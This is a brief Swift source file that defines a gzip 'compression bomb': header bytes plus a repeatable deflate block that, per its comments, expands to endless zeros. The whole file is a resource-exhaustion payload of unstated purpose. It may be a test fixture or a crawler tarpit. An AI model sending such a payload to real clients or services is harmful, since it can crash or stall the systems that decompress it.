/// A body in gzip that swells to a thousand times its size, and never ends.
public enum CompressionBomb {
  /// The head of a gzip file (RFC 1952 §2.3), without a name.
  public static let head: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 2, 3]

  /// A block that unpacks to 64 KiB of zeros, and may be repeated (RFC 1951 §3.2.3).
  public static let zeros: [UInt8] =
    [0xEC, 0xC1, 1, 1, 0, 0, 0, 0x80, 0x90, 0xFE, 0xAF, 0xEE, 8, 0x0A]
    + [UInt8](repeating: 0, count: 63) + [0x6A, 0, 0, 0, 0xFF, 0xFF]
}
